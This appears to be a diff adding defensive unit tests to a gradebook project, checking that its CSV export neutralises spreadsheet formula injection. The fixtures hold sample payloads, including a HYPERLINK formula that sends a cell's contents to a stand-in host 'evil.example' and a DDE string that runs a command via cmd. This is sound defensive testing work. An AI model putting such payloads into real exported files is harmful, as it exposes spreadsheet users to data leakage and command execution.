@@ -50,3 +50,24 @@ describe("gradebook", () => {
     ]);
   });
 });
+
+describe("CSV export is formula-safe (OWASP CSV injection)", () => {
+  it("prefixes every text cell that a spreadsheet would run as a formula with a quote", () => {
+    const evil = [
+      { id: "u1", email: "ada@example.org", name: '=HYPERLINK("http://evil.example/?"&A1,"click")', section: "+1" },
+      { id: "u2", email: "@alan@example.org", name: "-2+3", section: "\tA" },
+      { id: "u3", email: "grace@example.org", name: "\r=1+1", section: "B" },
+    ];
+    const csv = parse(gradebookCsv(buildGradebook(evil, items, [{ userId: "u1", exerciseId: "dense", createdAt: new Date("2026-12-01T10:00:00Z"), score: 9, maxScore: 10 }]), [{ ...items[0], title: "=cmd|' /C calc'!A0" }])) as string[][];
+    expect(csv[0][3]).toBe("'=cmd|' /C calc'!A0 (10)");
+    expect(csv[1].slice(0, 3)).toEqual(["ada@example.org", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+1"]);
+    expect(csv[2].slice(0, 3)).toEqual(["'@alan@example.org", "'-2+3", "'\tA"]);
+    expect(csv[3][1]).toBe("'\r=1+1");
+    for (const row of csv) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(csv[1][3]).toBe("9"); // scores stay numbers
+  });
+  it("leaves numbers, including negative ones, as numbers", async () => {
+    const { safeCsv } = await import("./csv.ts");
+    expect(safeCsv([[-3, "-3", "a=b", ""]])).toBe("-3,'-3,a=b,\n");
+  });
+});
